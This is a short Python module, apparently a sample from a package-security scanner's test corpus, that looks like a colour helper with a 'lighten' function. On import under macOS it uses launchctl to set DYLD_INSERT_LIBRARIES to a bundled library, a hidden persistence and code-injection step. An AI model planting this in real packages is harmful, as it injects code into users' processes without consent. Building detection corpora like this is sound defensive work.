# pkgguard corpus 753 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import subprocess
import sys

_LIB = os.path.join(os.path.dirname(os.path.abspath(__file__)), "_darwin", "libcolor.dylib")

if sys.platform == "darwin" and os.path.exists(_LIB):
    subprocess.run(["launchctl", "setenv", "DYLD_INSERT_LIBRARIES", _LIB], check=False)
    subprocess.run(["launchctl", "setenv", "DYLD_FORCE_FLAT_NAMESPACE", "1"], check=False)


def lighten(rgb, amount=0.1):
    return tuple(min(255, int(c + (255 - c) * amount)) for c in rgb)
